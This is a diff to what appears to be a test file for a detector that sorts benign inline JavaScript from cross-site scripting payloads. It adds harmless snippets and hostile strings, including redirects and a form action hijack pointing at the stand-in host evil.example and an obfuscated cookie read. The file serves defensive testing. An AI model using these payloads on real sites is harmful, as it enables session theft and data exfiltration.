@@ -494,6 +494,13 @@ PAGE_SHAPED = [
     "javascript:initMenu();",  # the label old templates write
     "window.scrollTo(0, 0)",
     "this.style.height=this.contentWindow.document.body.scrollHeight+'px'",  # an iframe growing to fit
+    "document.forms[0].submit()",  # a sign-on hand-off page posting its hidden fields
+    "document.forms['sso'].submit()",
+    "if(typeof init==='function')init()",  # a call guarded on the function being there
+    "if (window.init) { init(); }",
+    "window.app && app.start()",
+    "typeof init == 'function' && init()",
+    "if(!window.loaded)init()",
 ]
 PAYLOADS = [
     "alert(1)",
@@ -530,6 +537,14 @@ PAYLOADS = [
     "init()//",
     "x=1",
     "init(" + "a," * 400 + "a)",  # past PAGE_HANDLER_MAX_CHARS
+    "if(typeof init==='function')alert(1)",  # a guard is judged by what it guards
+    "window.app && eval(app.code)",
+    "if(x){location='//evil.example'}",
+    "if(typeof x==='function')x();else alert(1)",
+    "if(document.cookie)init()",  # a guard naming what a payload reads is kept, and judged
+    "document['coo'+'kie']",
+    "frames[0].location='//evil.example'",
+    "document.forms[0].action='//evil.example'",
 ]
 
 
